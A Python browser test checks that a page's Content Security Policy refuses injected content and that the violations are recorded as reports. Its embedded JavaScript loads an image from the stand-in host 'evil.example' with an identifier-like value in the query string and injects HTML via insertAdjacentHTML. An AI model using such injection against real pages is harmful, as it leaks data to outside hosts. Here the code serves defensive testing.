"""What a page is made to do by somebody else: the browser refuses, and tells us."""

import pytest

from befreg_reserv.health.models import BrowserReport
from tests.browser.conftest import Sit
from tests.cast import Cast
from tests.ground.patience import until

EXPECTED = ("Content Security Policy", "TrustedHTML", "evil.example")
# An image of another site, and text made to elements: where, and whether it came to be.
MADE_TO = """() => {
    const src = "https://evil.example/a.png?19121212-1212";
    document.body.append(Object.assign(new Image(), { src }));
    const html = "<b id=evil>x</b>";
    try { document.body.insertAdjacentHTML("beforeend", html); } catch { /* refused */ }
    return Boolean(document.getElementById("evil"));
}"""


@pytest.mark.one_database("network")
def test_it_is_refused_and_counted_without_the_address(cast: Cast, sit_down: Sit) -> None:
    page = sit_down(cast.adele, expecting=EXPECTED)
    assert page.evaluate(MADE_TO) is False
    until(lambda: BrowserReport.objects.count() == 2)
    kept = set(BrowserReport.objects.values_list("known", "rule", "blocked", "page"))
    assert kept == {
        (True, "img-src", "evil.example", "binder:overview"),
        (True, "require-trusted-types-for", "trusted-types-sink", "binder:overview"),
    }
